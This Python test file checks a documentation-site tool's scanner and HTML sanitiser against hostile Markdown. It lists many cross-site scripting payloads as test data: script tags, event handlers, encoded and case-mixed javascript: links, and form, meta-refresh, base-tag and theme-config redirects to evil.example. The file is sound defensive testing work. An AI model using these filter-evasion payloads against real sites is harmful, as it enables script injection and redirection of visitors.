"""Dangerous markup in contributed bodies: reported at its line, refused by the build, and
removed by the sanitiser whatever happens.

- `repertoire check` (the real command, JSON output) reports every dangerous construct of the
  table at its file line and column, in entries, member bios, problem descriptions and path
  introductions alike; markup inside code is left alone.
- A build of a repertoire holding one of them fails with the same diagnostic and publishes
  nothing of that page.
- The sanitiser, given the HTML that the site's own Markdown pipeline makes of each hostile
  body, leaves nothing executable, and keeps what the configured extensions legitimately make.
- Contributed ids and `data-md-*` attributes cannot stand in for the theme's own elements.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest

from repertoire_kit.core.safety.markup_scan import scan_markdown
from repertoire_kit.core.safety.sanitize import sanitize_html
from tests.support.crossindex_html import parse_html
from tests.support.security import (
    MARKDOWN_EXTENSIONS,
    html_problems,
    new_site,
    render_markdown,
    theme_hooks,
    visible_text,
)
from tests.support.sites import MINIMAL, Site

# Line 1 '---', lines 2-6 the fields, line 7 '---', line 8 'Intro.', line 9 blank: the hostile
# text starts on line 10 of every file.
HOSTILE_LINE = 10
FRONT_MATTER = {
    "cases": (
        "title: A case\nsummary: A case.\nproblem_types: [sampling]\n"
        "contributors: [ann-lee]\ndate: 2024-03-01\n"
    ),
    "members": "name: Bo Li\nrole: member\naffiliation: An office\njoined: 2020\nlinks: []\n",
    "problems": (
        "title: A problem\nsummary: A problem.\nparent: sampling\nicon: material/alert\n"
        "status: new\n"
    ),
}

# name: (folder, hostile body text, [(line offset from HOSTILE_LINE, column, message)]).
REPORTED: dict[str, tuple[str, str, list[tuple[int, int, str]]]] = {
    "raw-script": (
        "cases",
        "<script>alert('PWN')</script>",
        [(0, 1, "raw <script> is not allowed")],
    ),
    "iframe": (
        "cases",
        '<iframe src="https://evil.example/"></iframe>',
        [(0, 1, "raw <iframe> is not allowed")],
    ),
    "object": ("cases", '<object data="x.swf"></object>', [(0, 1, "raw <object> is not allowed")]),
    "img-onerror": (
        "cases",
        '<img src="x.png" onerror="alert(\'PWN\')">',
        [
            (
                0,
                11,
                "the raw HTML image 'x.png' leads to cases/img-onerror/x.png, which is not on "
                "the site",
            ),
            (0, 18, "event handler attribute 'onerror' is not allowed"),
        ],
    ),
    "mixed-case-handler": (
        "cases",
        "<IMG SRC=x OnError=alert('PWN')>",
        [
            (
                0,
                10,
                "the raw HTML image 'x' leads to cases/mixed-case-handler/x, which is not on "
                "the site",
            ),
            (0, 12, "event handler attribute 'onerror' is not allowed"),
        ],
    ),
    "svg-onload": (
        "cases",
        "<svg onload=alert('PWN')>",
        [
            (0, 1, "raw <svg> is not allowed"),
            (0, 6, "event handler attribute 'onload' is not allowed"),
        ],
    ),
    "style-attribute": (
        "cases",
        '<p style="position:fixed">x</p>',
        [(0, 1, "inline style attributes are not allowed")],
    ),
    "attr-list-handler": (
        "cases",
        "A paragraph.\n{: onclick=\"alert('PWN')\" }",
        [(1, 4, "event handler attribute 'onclick' is not allowed")],
    ),
    "attr-list-style": (
        "cases",
        'A paragraph.\n{: style="color:red" }',
        [(1, 1, "inline style attributes are not allowed")],
    ),
    "markdown-javascript-link": (
        "cases",
        "[x](javascript:alert('PWN'))",
        [(0, 5, "'javascript:' links are not allowed")],
    ),
    "html-javascript-href": (
        "cases",
        "<a href=\"javascript:alert('PWN')\">x</a>",
        [(0, 10, "'javascript:' links are not allowed")],
    ),
    "decimal-entity": (
        "cases",
        "<a href=\"&#106;avascript:alert('PWN')\">x</a>",
        [(0, 10, "'javascript:' links are not allowed")],
    ),
    "hex-entity": (
        "cases",
        "[x](&#x6A;avascript:alert('PWN'))",
        [(0, 5, "'javascript:' links are not allowed")],
    ),
    "double-encoded": (
        "cases",
        "<a href=\"&amp;#106;avascript:alert('PWN')\">x</a>",
        [(0, 10, "'javascript:' links are not allowed")],
    ),
    "entity-colon": (
        "cases",
        "[x](javascript&colon;alert('PWN'))",
        [(0, 5, "'javascript:' links are not allowed")],
    ),
    "mixed-case-scheme": (
        "cases",
        "[x](JaVaScRiPt:alert('PWN'))",
        [(0, 5, "'javascript:' links are not allowed")],
    ),
    "tab-split-scheme": (
        "cases",
        "<a href=\"java\tscript:alert('PWN')\">x</a>",
        [(0, 10, "'javascript:' links are not allowed")],
    ),
    "data-image": (
        "cases",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        [(0, 6, "'data:' links are not allowed")],
    ),
    "vbscript": (
        "cases",
        "<a href=\"vbscript:msgbox('PWN')\">x</a>",
        [(0, 10, "'vbscript:' links are not allowed")],
    ),
    "reference-definition": (
        "cases",
        "[x][r]\n\n[r]: javascript:alert('PWN')",
        [(2, 6, "'javascript:' links are not allowed")],
    ),
    "autolink": (
        "cases",
        "<javascript:alert('PWN')>",
        [(0, 2, "'javascript:' links are not allowed")],
    ),
    "member-bio-script": (
        "members",
        "<script>alert('PWN')</script>",
        [(0, 1, "raw <script> is not allowed")],
    ),
    "problem-description-link": (
        "problems",
        "[x](javascript:alert('PWN'))",
        [(0, 5, "'javascript:' links are not allowed")],
    ),
}
# Markup inside code, and words in prose, are not reported.
NOT_REPORTED: dict[str, str] = {
    "fenced-code": (
        '```html\n<script>alert(\'PWN\')</script>\n<a href="javascript:x" onclick="y">z</a>\n```'
    ),
    "tilde-fence": '~~~\n<iframe src="x"></iframe>\n~~~',
    "inline-code": "Use `<script>` and `[x](javascript:y)` and `{: onclick=x }` with care.",
    "prose": "Never write javascript: links, onclick handlers or data: images.",
}


def body_file(folder: str, body: str) -> str:
    return f"---\n{FRONT_MATTER[folder]}---\nIntro.\n\n{body}\n"


def run_check(site: Site) -> list[dict[str, Any]]:
    result = site.check("--format", "json")
    assert result.returncode in (0, 1), result.stderr
    diagnostics: list[dict[str, Any]] = json.loads(result.stdout)
    return diagnostics


@pytest.fixture(scope="module")
def checked(tmp_path_factory: pytest.TempPathFactory) -> list[dict[str, Any]]:
    """`repertoire check --format json` over one file per table row."""
    files = {
        f"repertoire/{folder}/{name}.md": body_file(folder, body)
        for name, (folder, body, _) in REPORTED.items()
    }
    files |= {
        f"repertoire/cases/{name}.md": body_file("cases", body)
        for name, body in NOT_REPORTED.items()
    }
    return run_check(new_site(tmp_path_factory, "bodies", {**MINIMAL, **files}))


@pytest.mark.parametrize("name", sorted(REPORTED))
def test_check_reports_dangerous_markup_at_its_line(
    checked: list[dict[str, Any]], name: str
) -> None:
    folder, _, expected = REPORTED[name]
    path = f"repertoire/{folder}/{name}.md"
    found = [
        (d["line"], d["col"], d["field"], d["message"], d["severity"])
        for d in checked
        if d["path"] == path
    ]
    assert found == [
        (HOSTILE_LINE + offset, col, "body", message, "error") for offset, col, message in expected
    ]


@pytest.mark.parametrize("name", sorted(NOT_REPORTED))
def test_check_leaves_code_and_prose_alone(checked: list[dict[str, Any]], name: str) -> None:
    assert [d for d in checked if d["path"] == f"repertoire/cases/{name}.md"] == []


def test_a_build_with_dangerous_markup_fails_and_publishes_nothing(
    make_site: Callable[..., Site],
) -> None:
    site = make_site(
        {"repertoire/cases/evil.md": body_file("cases", "<script>alert('PWN')</script>")}
    )
    result = site.build()
    assert result.returncode != 0
    assert "repertoire/cases/evil.md:10:1: body: raw <script> is not allowed" in result.stderr
    assert not (site.site_dir / "cases" / "evil").exists()


def test_code_showing_markup_builds_and_is_shown_escaped(make_site: Callable[..., Site]) -> None:
    site = make_site(
        {
            "repertoire/cases/code.md": body_file(
                "cases", NOT_REPORTED["fenced-code"] + "\n\n" + NOT_REPORTED["inline-code"]
            )
        }
    )
    assert site.build("--strict").returncode == 0, site.last.stderr if site.last else ""
    page = site.html("cases/code/")
    assert html_problems(page, "cases/code/") == []
    code_text = [c.text() for c in parse_html(page).find_all("code")]
    assert any("<script>alert('PWN')</script>" in text for text in code_text)
    assert "<script>" in code_text and "{: onclick=x }" in code_text


# ----- the sanitiser on the site's own Markdown pipeline ---------------------------------------

SANITISED: dict[str, tuple[str, str]] = {
    # name: (hostile Markdown, the exact sanitised HTML)
    "script element and its content": ("<script>alert('PWN')</script>", ""),
    "iframe": ('<iframe src="https://evil.example/"></iframe>', ""),
    "event handler on an image": (
        '<img src="x.png" onerror="alert(\'PWN\')">',
        '<p><img src="x.png"></p>',
    ),
    "svg with onload": ("<svg onload=\"alert('PWN')\"></svg>", "<p></p>"),
    "svg link": ('x <svg><a href="javascript:alert(PWN)"><text>t</text></a></svg>', "<p>x </p>"),
    "javascript link": ("[x](javascript:alert(PWN))", "<p><a>x</a></p>"),
    "entity-encoded javascript": (
        "<a href=\"&#106;avascript:alert('PWN')\">x</a>",
        "<p><a>x</a></p>",
    ),
    "newline-split javascript": ("<a href=\"java\nscript:alert('PWN')\">x</a>", "<p><a>x</a></p>"),
    "leading-space javascript": ("<a href=\"  javascript:alert('PWN')\">x</a>", "<p><a>x</a></p>"),
    "vbscript": ("<a href=\"vbscript:msgbox('PWN')\">x</a>", "<p><a>x</a></p>"),
    "data image": ("![x](data:image/svg+xml;base64,PHN2Zz4=)", '<p><img alt="x"></p>'),
    "inline style": ('<p style="position:fixed">x</p>', "<p>x</p>"),
    "attr_list event handler": (
        "A paragraph.\n{: onclick=\"alert('PWN')\" }",
        "<p>A paragraph.</p>",
    ),
    "attr_list style": ('A paragraph.\n{: style="color:red" }', "<p>A paragraph.</p>"),
    "form": ('<form action="https://evil.example/"><input name="p"></form>', ""),
    "meta refresh": (
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        "<p></p>",
    ),
    "base element": ('<base href="https://evil.example/">', "<p></p>"),
    "theme config id": (
        '{"base": "https://evil.example/"}\n{: #__config }',
        '<p>{"base": "https://evil.example/"}</p>',
    ),
    "theme component hook": (
        '[x](https://example.org/){: data-md-component="source" }',
        '<p><a href="https://example.org/">x</a></p>',
    ),
    "mermaid class (Material would load mermaid from a CDN)": (
        '<pre class="mermaid">graph TD; A-->B</pre>',
        "<pre>graph TD; A--&gt;B</pre>",
    ),
    "target blank": (
        '<a href="https://example.org/" target="_blank">x</a>',
        '<p><a href="https://example.org/">x</a></p>',
    ),
}


@pytest.mark.parametrize("name", sorted(SANITISED))
def test_sanitiser_leaves_nothing_executable(name: str) -> None:
    source, expected = SANITISED[name]
    cleaned = sanitize_html(render_markdown(source))
    assert cleaned == expected
    assert html_problems(cleaned, name) == []


KEPT: dict[str, tuple[str, list[str]]] = {
    # name: (Markdown a member may write, fragments the sanitised HTML must still contain)
    "table alignment": (
        "| a | b |\n|:-:|--:|\n| 1 | 2 |",
        ['<th style="text-align:center">a</th>', '<td style="text-align:right">2</td>'],
    ),
    "admonition": (
        '!!! note "Mind this"\n    Text.',
        ['<div class="admonition note">', '<p class="admonition-title">Mind this</p>'],
    ),
    "details": (
        '??? tip "More"\n    Hidden.',
        ['<details class="tip">', "<summary>More</summary>"],
    ),
    "footnote": (
        "A claim.[^1]\n\n[^1]: The source.",
        ['<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>', '<li id="fn:1">'],
    ),
    "definition list": ("Term\n: Meaning", ["<dl>", "<dt>Term</dt>", "<dd>Meaning</dd>"]),
    "highlighted code": ("```python\nprint('<b>')\n```", ['<div class="highlight">', "&lt;b&gt;"]),
    "heading permalink and attr_list": (
        "## Findings {: #findings .key }",
        ['<h2 class="key" id="findings">', '<a class="headerlink" href="#findings"'],
    ),
    "md_in_html block": (
        '<div class="grid" markdown>\n\n**Bold**\n\n</div>',
        ['<div class="grid">', "<strong>Bold</strong>"],
    ),
    "links and images": (
        "[site](https://example.org/) [mail](mailto:a@example.org) [rel](../x/) ![i](pic.png)",
        [
            'href="https://example.org/"',
            'href="mailto:a@example.org"',
            'href="../x/"',
            'src="pic.png"',
        ],
    ),
}


@pytest.mark.parametrize("name", sorted(KEPT))
def test_sanitiser_keeps_what_the_configured_extensions_make(name: str) -> None:
    source, fragments = KEPT[name]
    cleaned = sanitize_html(render_markdown(source))
    assert [f for f in fragments if f not in cleaned] == []


def test_sanitiser_is_deterministic() -> None:
    source = (
        "\n\n".join(s for s, _ in KEPT.values())
        + "\n\n"
        + "\n\n".join(s for s, _ in SANITISED.values())
    )
    html = render_markdown(source)
    assert len({sanitize_html(html) for _ in range(5)}) == 1


def test_contributed_ids_cannot_replace_the_theme_config_in_a_build(
    make_site: Callable[..., Site],
) -> None:
    """Material reads its settings from the first `#__config` of the page; the page body comes
    first, so a contributed `{: #__config }` would redirect the search worker (seen in Chromium:
    a `data:` worker URL ran and fetched from the contributor's host). The check reports it,
    and the sanitiser removes it from any page that is written anyway (while serving)."""
    body = (
        '{"base": "https://evil.example/", "search": "data:text/javascript,alert(1)"}\n'
        "{: #__config }\n\n"
        '[x](https://example.org/){: data-md-component="source" }'
    )
    site = make_site({"repertoire/cases/hooks.md": body_file("cases", body)})
    # The check stops a build; serving still writes the page, through the sanitiser.
    assert site.build("--strict").returncode != 0
    assert "'#__config' is reserved for the site's theme" in (site.last.stderr if site.last else "")
    assert site.serve_build().returncode == 0, site.last.stderr if site.last else ""
    page = site.html("cases/hooks/")
    assert theme_hooks(page) == []
    configs = [e for e in parse_html(page).iter() if e.attrs.get("id") == "__config"]
    assert [(e.tag, e.attrs.get("type")) for e in configs] == [("script", "application/json")]
    assert '"https://evil.example/"' in visible_text(page)


# The extensions whose output the escaping (core/escape.py) and the allowlist (core/sanitize.py)
# were checked against. Enabling another one in mkdocs.yml can add syntax that a front-matter
# value could trigger (emoji, keys, mark, arithmatex) or, for pymdownx.snippets, let a page
# include files: review both modules, extend the tests, then this list.
REVIEWED_EXTENSIONS = frozenset(
    {
        "toc",
        "tables",
        "admonition",
        "attr_list",
        "def_list",
        "footnotes",
        "md_in_html",
        "pymdownx.details",
        "pymdownx.superfences",
        "pymdownx.highlight",
    }
)


def test_only_reviewed_markdown_extensions_are_enabled() -> None:
    assert sorted(set(MARKDOWN_EXTENSIONS) - REVIEWED_EXTENSIONS) == []
    assert "pymdownx.snippets" not in MARKDOWN_EXTENSIONS


# ----- constructs a line-at-a-time scan would miss ------------------------------------------

SPREAD_OVER_LINES: dict[str, tuple[str, int, str]] = {
    # name: (hostile body, line (1-based) of the dangerous part, message)
    "tag split over two lines": (
        "x <img src=x\nonerror=alert('PWN')> y",
        2,
        "event handler attribute 'onerror' is not allowed",
    ),
    "quoted > before the handler": (
        '<img src="x" alt=">" onerror=alert(\'PWN\')>',
        1,
        "event handler attribute 'onerror' is not allowed",
    ),
    "reference target on the next line": (
        "[x][r]\n\n[r]:\n  javascript:alert('PWN')",
        4,
        "'javascript:' links are not allowed",
    ),
    "attribute value on the next line": (
        "<a href=\n\"javascript:alert('PWN')\">x</a>",
        2,
        "'javascript:' links are not allowed",
    ),
}


@pytest.mark.parametrize("name", sorted(SPREAD_OVER_LINES))
def test_check_reports_markup_spread_over_lines(name: str) -> None:
    body, line, message = SPREAD_OVER_LINES[name]
    assert [(f.line, f.message) for f in scan_markdown(body, 1)] == [(line, message)]


def test_check_reports_theme_reserved_ids() -> None:
    assert [
        f.line for f in scan_markdown('{"base": "https://evil.example/"}\n{: #__config }', 1)
    ] == [2]
